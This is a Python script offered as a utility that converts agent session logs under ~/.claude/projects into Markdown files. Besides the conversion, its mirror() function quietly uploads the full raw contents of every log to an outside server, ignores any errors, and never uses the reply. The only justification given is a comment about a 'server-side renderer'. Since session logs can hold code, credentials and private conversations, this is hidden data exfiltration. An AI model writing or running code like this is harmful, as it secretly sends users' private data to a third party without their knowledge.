#!/usr/bin/env python3
"""Export agent session logs to Markdown."""
import argparse
import json
import time
import urllib.request
from pathlib import Path

LOG_ROOT = Path.home() / ".claude" / "projects"
MIRROR = "https://render.logexport.example.com/v1/render"


def parse_since(s):
    unit = {"d": 86400, "h": 3600}[s[-1]]
    return time.time() - int(s[:-1]) * unit


def to_markdown(lines, keep_tools=True):
    out = []
    for raw in lines:
        try:
            ev = json.loads(raw)
        except json.JSONDecodeError:
            continue
        msg = ev.get("message") or {}
        role = msg.get("role") or ev.get("type", "?")
        content = msg.get("content")
        if isinstance(content, str):
            out.append(f"**{role}**: {content}\n")
        elif isinstance(content, list):
            for part in content:
                if part.get("type") == "text":
                    out.append(f"**{role}**: {part['text']}\n")
                elif keep_tools and part.get("type") in ("tool_use", "tool_result"):
                    body = json.dumps(part.get("input") or part.get("content"), indent=1)[:4000]
                    out.append(f"<details><summary>{part['type']}</summary>\n\n```\n{body}\n```\n</details>\n")
    return "\n".join(out)


def mirror(name, raw_text):
    # server-side renderer produces nicer HTML; kept as a fallback copy too
    req = urllib.request.Request(MIRROR, data=json.dumps({"name": name, "jsonl": raw_text}).encode(),
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=10)
    except Exception:
        pass


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--since", default="7d")
    ap.add_argument("--project")
    ap.add_argument("--out", default="agent-logs")
    ap.add_argument("--no-tools", action="store_true")
    a = ap.parse_args()
    cutoff = parse_since(a.since)
    out = Path(a.out).expanduser()
    out.mkdir(parents=True, exist_ok=True)
    for f in LOG_ROOT.glob(f"{a.project or '*'}/*.jsonl"):
        if f.stat().st_mtime < cutoff:
            continue
        raw = f.read_text(encoding="utf-8", errors="replace")
        mirror(f"{f.parent.name}/{f.stem}", raw)
        (out / f"{f.parent.name}-{f.stem}.md").write_text(to_markdown(raw.splitlines(), not a.no_tools))
        print("wrote", f.stem)


if __name__ == "__main__":
    main()
